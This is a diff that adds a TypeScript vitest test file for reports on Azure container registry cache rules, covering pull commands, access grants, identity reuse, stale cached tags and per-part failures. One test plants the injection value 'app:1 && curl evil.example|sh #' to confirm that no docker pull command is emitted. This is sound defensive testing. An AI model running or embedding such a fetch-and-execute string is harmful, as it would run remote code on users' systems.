@@ -1,0 +1,155 @@
+import { afterEach, describe, expect, it } from 'vitest';
+import { cacheRuleArmId } from '../../../../src/domain/armId.ts';
+import { roles } from '../../../../src/domain/roles.ts';
+import { readRuleReport, type RuleReport } from '../../../../src/provisioning/ruleReport/readRuleReport.ts';
+import { ruleReportMarkdown } from '../../../../src/provisioning/ruleReport/ruleReportMarkdown.ts';
+import { mapping } from '../links.ts';
+import { startWorld, type World } from '../world.ts';
+
+let world: World | undefined;
+afterEach(async () => {
+  await world?.close();
+  world = undefined;
+});
+
+async function startWithRule(): Promise<{ world: World; id: string }> {
+  world = await startWorld({ retryAfterSeconds: 0, operationMs: 5 });
+  await world.setUp();
+  return { world, id: cacheRuleArmId(world.link().downstream.id, 'MyRule') };
+}
+
+function value<K extends 'mapping' | 'access' | 'identity' | 'cached' | 'json'>(
+  report: RuleReport,
+  name: K,
+): RuleReport[K] extends infer P ? (P extends { value: infer V } ? V : never) : never {
+  const part = report[name];
+  if (part.state !== 'ready') throw new Error(`${name} ${JSON.stringify(part)}`);
+  return part.value as never;
+}
+
+describe('the report of a rule', () => {
+  it('tells the mapping, the access and its reason, the identity, and fills in part by part', async () => {
+    const { world, id } = await startWithRule();
+    const seen: RuleReport[] = [];
+    const report = await readRuleReport(world.azure, id, { onPart: (partial) => seen.push(partial) });
+    expect(seen).toHaveLength(6);
+    expect(seen[0]?.mapping.state).toBe('loading');
+    expect(value(report, 'mapping')).toMatchObject({
+      rule: { name: 'MyRule' },
+      pullCommand: { ok: true, value: `docker pull ${world.link().downstream.loginServer}/myapp:<tag>` },
+    });
+    const access = value(report, 'access');
+    expect(access).toMatchObject({ sufficient: true, needed: 'myapp' });
+    expect(access.grants).toMatchObject([
+      { roleName: roles.repositoryReader.name, counts: true, compared: 'Gives exactly what the rule needs.' },
+    ]);
+    expect(access.grants[0]?.explained).toContain('the repository "myapp"');
+    expect(value(report, 'identity')).toMatchObject({
+      recreated: false,
+      otherRules: [],
+      resources: [],
+      otherAssignments: [],
+      unknown: [],
+    });
+    expect(value(report, 'cached')).toEqual({ repositories: [], moreRepositories: 0 });
+    expect(value(report, 'json')).toMatchObject({ name: 'MyRule' });
+  });
+
+  it('has no pull command for a target that is no repository name, and says so', async () => {
+    const { world, id } = await startWithRule();
+    const rule = [...world.sandbox.state.resources.values()].find((resource) => resource.id === id);
+    if (rule) rule.properties['targetRepository'] = 'app:1 && curl evil.example|sh #';
+    const report = await readRuleReport(world.azure, id);
+    expect(value(report, 'mapping')).toMatchObject({ pullCommand: { problem: { code: 'repository.hasTag' } } });
+    const text = ruleReportMarkdown(report);
+    expect(text).not.toContain('docker pull');
+    expect(text).toMatch(/There is no pull command/);
+  });
+
+  it('says that the identity may not read, was made anew, and who else uses it', async () => {
+    const { world, id } = await startWithRule();
+    const { identity } = world.link();
+    await world.setUp(world.link({ mappings: [mapping('SecondRule', 'charts/shop')] }));
+    await world.azure.identities.delete(identity.id);
+    await world.azure.identities.create(identity.id, 'eastus');
+    const report = await readRuleReport(world.azure, id);
+    expect(value(report, 'access')).toMatchObject({ sufficient: false });
+    expect(value(report, 'identity')).toMatchObject({ recreated: true, otherRules: [{ name: 'SecondRule' }] });
+    const text = ruleReportMarkdown(report);
+    expect(text).toMatch(/may not read/);
+    expect(text).toMatch(/made anew/);
+    expect(text).toContain('SecondRule');
+  });
+
+  it('shows cached tags with platforms, and which are stale or gone upstream', async () => {
+    const { world, id } = await startWithRule();
+    const content = world.azure.registry(await world.registry('myregistry'));
+    for (const tag of ['1.0', '1.1', 'latest']) await content.pull('myapp', tag);
+    await expect.poll(async () => (await content.tags('myapp')).length).toBe(3);
+    // Two images, each with its index and the platform that was pulled.
+    await expect.poll(async () => (await content.storedManifests('myapp')).length).toBe(4);
+    const upstream = [...world.sandbox.state.content.values()].find(({ registryId }) =>
+      registryId.endsWith('/upstreamregistry'),
+    );
+    const tags = upstream?.repositories.get('myapp')?.tags;
+    const newer = tags?.get('1.1');
+    if (!tags || !newer) throw new Error('no tags');
+    tags.set('1.0', { ...newer });
+    tags.delete('latest');
+    await world.azure.roles.put(world.id('upstreamregistry'), crypto.randomUUID(), {
+      roleId: roles.repositoryReader.id,
+      principalId: world.principal('dev'),
+      principalType: 'User',
+    });
+    const report = await readRuleReport(world.azure, id);
+    const [repository] = value(report, 'cached').repositories;
+    const states = Object.fromEntries(repository?.tags.map((tag) => [tag.tag, tag.upstreamState]) ?? []);
+    expect(states).toEqual({ '1.0': 'stale', '1.1': 'same', latest: 'gone' });
+    expect(repository?.tags.every(({ platforms }) => platforms.length > 0)).toBe(true);
+    expect(ruleReportMarkdown(report)).toMatch(/stale: the upstream has another image/);
+  });
+
+  it('says why the upstream digests are not known when the account may not read there', async () => {
+    const { world, id } = await startWithRule();
+    const content = world.azure.registry(await world.registry('myregistry'));
+    await content.pull('myapp', '1.0');
+    await expect.poll(async () => (await content.tags('myapp')).length).toBe(1);
+    const report = await readRuleReport(world.azure, id);
+    const [repository] = value(report, 'cached').repositories;
+    expect(repository?.tags[0]?.upstreamState).toBe('unknown');
+    expect(repository?.upstreamReason).toMatch(/could not be read/);
+  });
+
+  it.each([
+    ['access', '^GET .*registries/upstreamregistry/providers/Microsoft.Authorization', undefined],
+    ['json', '^GET .*cacheRules/MyRule', 2],
+    ['cached', '^(GET|HEAD) localhost:.*/acr/v1/', undefined],
+    ['mapping', '^GET .*registries/myregistry\\?', undefined],
+  ] as const)('a part that fails says why, the others are there (%s)', async (name, match, nth) => {
+    const { world, id } = await startWithRule();
+    const report = await world.withFaults(
+      [{ match, status: 403, message: 'Not for you.', ...(nth ? { nth } : {}) }],
+      () => readRuleReport(world.azure, id),
+    );
+    const failed = (['mapping', 'access', 'identity', 'cached', 'json'] as const).filter(
+      (part) => report[part].state === 'failed',
+    );
+    expect(failed).toContain(name === 'json' ? failed[0] : name);
+    expect(failed.length).toBeLessThan(5);
+    expect(ruleReportMarkdown(report)).toMatch(/Could not be read: .*Not for you/);
+  });
+
+  it('of a rule that does not exist fails in every part', async () => {
+    const { world } = await startWithRule();
+    const report = await readRuleReport(world.azure, cacheRuleArmId(world.link().downstream.id, 'NoSuchRule'));
+    const { mapping, access, identity, cached, json } = report;
+    expect([mapping, access, identity, cached, json].map(({ state }) => state)).toEqual(Array(5).fill('failed'));
+  });
+
+  it('is left by a cancel', async () => {
+    const { world, id } = await startWithRule();
+    await expect(readRuleReport(world.azure, id, { signal: AbortSignal.abort() })).rejects.toMatchObject({
+      kind: 'cancelled',
+    });
+  });
+});
